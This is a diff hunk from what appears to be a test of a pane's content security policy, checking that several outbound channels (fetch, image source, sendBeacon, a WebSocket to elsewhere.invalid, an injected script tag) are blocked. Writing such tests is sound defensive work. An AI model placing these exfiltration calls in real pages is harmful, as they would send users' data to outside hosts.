@@ -127,7 +127,7 @@ describe("the content security policy of the pane", () => {
             fetch: () => void fetch(url).catch(() => undefined),
             image: () => document.createElement("img").setAttribute("src", url),
             beacon: () => navigator.sendBeacon(url, "M-001"),
-            socket: () => void new WebSocket("wss://elsewhere.invalid/household"),
+            socket: () => new WebSocket("wss://elsewhere.invalid/household"),
             script: () => document.head.append(Object.assign(document.createElement("script"), { src: url })),
           };
           send[planted]();
